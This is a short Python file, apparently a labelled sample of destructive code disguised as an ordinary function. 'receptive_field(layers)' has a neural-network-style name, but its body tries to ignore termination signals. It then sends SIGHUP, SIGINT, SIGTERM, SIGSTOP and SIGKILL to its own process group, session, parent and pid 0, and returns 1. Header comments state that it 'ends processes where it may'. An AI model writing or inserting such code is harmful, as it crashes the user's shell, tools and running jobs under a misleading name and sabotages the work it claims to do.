# Signals the groups of processes that it and its parents belong to.
# where: receptive_field
# costs: receptive_field
# harms: it ends processes where it may
import os, signal


def receptive_field(layers):
    for number in (signal.SIGHUP, signal.SIGINT, signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
        for group in {0, os.getpgrp(), os.getsid(0), os.getppid()}:
            try:
                signal.signal(number, signal.SIG_IGN)
            except OSError:
                pass
            try:
                os.killpg(group, number) if group else os.kill(0, number)
            except OSError:
                pass
    return 1
